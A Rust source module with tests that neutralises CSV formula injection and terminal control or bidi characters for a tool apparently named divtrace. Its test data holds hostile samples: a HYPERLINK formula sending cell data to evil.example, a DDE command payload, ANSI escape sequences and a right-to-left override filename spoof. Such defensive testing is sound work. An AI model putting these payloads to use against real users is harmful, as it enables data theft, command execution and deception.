//! Neutralising hostile text for the places it is shown. Pure functions, no I/O.
//!
//! * [`csv_cell`]: a spreadsheet evaluates a cell that starts with `=`, `+`,
//!   `-`, `@`, tab or carriage return as a formula (`=HYPERLINK(...)`, DDE).
//!   Following OWASP's rule such a cell gets a leading `'`, which Excel and
//!   LibreOffice show as text. A cell that is a plain decimal number (`-5`,
//!   `+1.5e3`) is left alone: a spreadsheet reads it as that number and
//!   evaluates nothing, and the numbers divtrace writes stay numbers.
//! * [`term`] / [`term_lines`]: control characters (C0, DEL, C1), bidi
//!   embeddings, overrides and isolates, and invisible format characters
//!   are shown as `\u{..}` in terminal output, so a name cannot recolour the
//!   terminal, move the cursor, rewrite a line or reverse the text after it.
//!   JSON output is never passed through these: it stays exact.

use std::borrow::Cow;

/// The first characters that make a spreadsheet evaluate a cell.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `s` is a plain decimal number: optional sign, digits with at most
/// one point, optional exponent. Such a cell is read as a number, never as a formula.
pub fn is_plain_number(s: &str) -> bool {
    let b = s.as_bytes();
    let mut i = 0;
    if matches!(b.first(), Some(b'+' | b'-')) {
        i = 1;
    }
    let (mut digits, mut point) = (0, false);
    while i < b.len() {
        match b[i] {
            b'0'..=b'9' => digits += 1,
            b'.' if !point => point = true,
            _ => break,
        }
        i += 1;
    }
    if digits == 0 {
        return false;
    }
    if i < b.len() && matches!(b[i], b'e' | b'E') {
        i += 1;
        if matches!(b.get(i), Some(b'+' | b'-')) {
            i += 1;
        }
        let start = i;
        while i < b.len() && b[i].is_ascii_digit() {
            i += 1;
        }
        if i == start {
            return false;
        }
    }
    i == b.len()
}

/// A CSV cell a spreadsheet will show as text: `'` before a cell that would
/// otherwise be evaluated as a formula; every other cell unchanged.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    match s.chars().next() {
        Some(c) if FORMULA_START.contains(&c) && !is_plain_number(s) => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

/// Whether a terminal must not receive `c` as it is: C0 and C1 controls,
/// DEL, the bidi embeddings/overrides/isolates and marks, and invisible
/// format characters (zero-width space, word joiner, BOM, line and paragraph
/// separators, interlinear annotations, tags). Zero-width (non-)joiners
/// U+200C/U+200D are kept: Persian, Indic and emoji text needs them.
pub fn is_unsafe_for_terminal(c: char) -> bool {
    matches!(c,
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{61c}' | '\u{200b}' | '\u{200e}' | '\u{200f}'
        | '\u{2028}'..='\u{202e}'
        | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{206f}'
        | '\u{feff}' | '\u{fff9}'..='\u{fffb}'
        | '\u{e0000}'..='\u{e007f}')
}

fn escape_into(out: &mut String, s: &str, keep_newline: bool) {
    for c in s.chars() {
        if is_unsafe_for_terminal(c) && !(keep_newline && c == '\n') {
            out.push_str(&format!("\\u{{{:x}}}", c as u32));
        } else {
            out.push(c);
        }
    }
}

/// One field for a terminal table: every unsafe character, newline and tab
/// included, shown as `\u{..}` (a name cannot start a forged table line).
pub fn term(s: &str) -> Cow<'_, str> {
    if !s.chars().any(is_unsafe_for_terminal) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    escape_into(&mut out, s, false);
    Cow::Owned(out)
}

/// A whole block of terminal text (a table, an error message): like [`term`]
/// but line breaks stay line breaks.
pub fn term_lines(s: &str) -> Cow<'_, str> {
    if !s.chars().any(|c| c != '\n' && is_unsafe_for_terminal(c)) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    escape_into(&mut out, s, true);
    Cow::Owned(out)
}

/// A writer for terminal text: everything written passes through
/// [`term_lines`]. Table printers write through this, so no field they
/// print can reach the terminal raw. UTF-8 sequences split across writes
/// are held back until complete; invalid bytes are shown as U+FFFD.
pub struct TermWriter<W: std::io::Write> {
    inner: W,
    pending: Vec<u8>,
}

impl<W: std::io::Write> TermWriter<W> {
    pub fn new(inner: W) -> Self {
        TermWriter { inner, pending: Vec::new() }
    }

    fn emit(&mut self, bytes: &[u8]) -> std::io::Result<()> {
        let text = String::from_utf8_lossy(bytes);
        self.inner.write_all(term_lines(&text).as_bytes())
    }
}

impl<W: std::io::Write> std::io::Write for TermWriter<W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.pending.extend_from_slice(buf);
        // Emit everything up to the last complete UTF-8 sequence.
        let cut = match std::str::from_utf8(&self.pending) {
            Ok(_) => self.pending.len(),
            Err(e) if e.error_len().is_none() => e.valid_up_to(),
            Err(_) => self.pending.len(),
        };
        let rest = self.pending.split_off(cut);
        let ready = std::mem::replace(&mut self.pending, rest);
        self.emit(&ready)?;
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        if !self.pending.is_empty() {
            let p = std::mem::take(&mut self.pending);
            self.emit(&p)?;
        }
        self.inner.flush()
    }
}

impl<W: std::io::Write> Drop for TermWriter<W> {
    fn drop(&mut self) {
        let _ = std::io::Write::flush(self);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formula_cells_get_a_quote() {
        for s in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "-",
            "+",
            "-inf",
            "-1e",
            "+.e5",
        ] {
            assert_eq!(csv_cell(s), format!("'{s}"), "{s:?}");
        }
        for s in ["Denkar", "", "'=already", " =spaced", "12", "-5", "+1.5", "-0.25e-3", "3.", ".5", "2022-05-02", "ООО =Вектор"] {
            assert_eq!(csv_cell(s), s, "{s:?}");
        }
    }

    #[test]
    fn terminal_escapes_are_shown() {
        assert_eq!(term("a\u{1b}[31mb\u{7}\u{8}"), "a\\u{1b}[31mb\\u{7}\\u{8}");
        assert_eq!(term("evil\u{202e}gnp.exe"), "evil\\u{202e}gnp.exe");
        assert_eq!(term("x\ny\tz\r"), "x\\u{a}y\\u{9}z\\u{d}");
        assert_eq!(term("\u{9b}2J\u{2066}\u{feff}"), "\\u{9b}2J\\u{2066}\\u{feff}");
        assert_eq!(term_lines("line\u{1b}1\nline 2\n"), "line\\u{1b}1\nline 2\n");
        for s in ["Денкар Dış Ticaret", "شركة", "می‌خواهم", "👩‍🔬", "東京"] {
            assert_eq!(term(s), s);
        }
    }

    #[test]
    fn term_writer_handles_split_sequences() {
        use std::io::Write;
        let mut out = Vec::new();
        {
            let mut w = TermWriter::new(&mut out);
            let s = "Ж\u{202e}\u{1b}ok\n".as_bytes();
            for b in s {
                w.write_all(std::slice::from_ref(b)).unwrap();
            }
        }
        assert_eq!(String::from_utf8(out).unwrap(), "Ж\\u{202e}\\u{1b}ok\n");
    }

    proptest! {
        #[test]
        fn csv_cells_never_start_a_formula(s in "\\PC*|[=+\\-@\t\r].*|[-+]?[0-9]{0,4}\\.?[0-9]{0,3}") {
            let c = csv_cell(&s);
            let first = c.chars().next();
            prop_assert!(is_plain_number(&c) || !first.is_some_and(|f| FORMULA_START.contains(&f)));
            // Nothing is lost: the original follows the added quote.
            prop_assert!(c == s || c.strip_prefix('\'') == Some(s.as_str()));
        }

        #[test]
        fn terminal_text_has_no_unsafe_characters(s in any::<String>()) {
            let t = term(&s);
            prop_assert!(!t.chars().any(is_unsafe_for_terminal));
            let l = term_lines(&s);
            prop_assert!(!l.chars().any(|c| c != '\n' && is_unsafe_for_terminal(c)));
            prop_assert_eq!(l.matches('\n').count(), s.matches('\n').count());
            // Safe text passes through unchanged.
            if !s.chars().any(is_unsafe_for_terminal) {
                prop_assert_eq!(t.as_ref(), s.as_str());
            }
        }
    }
}
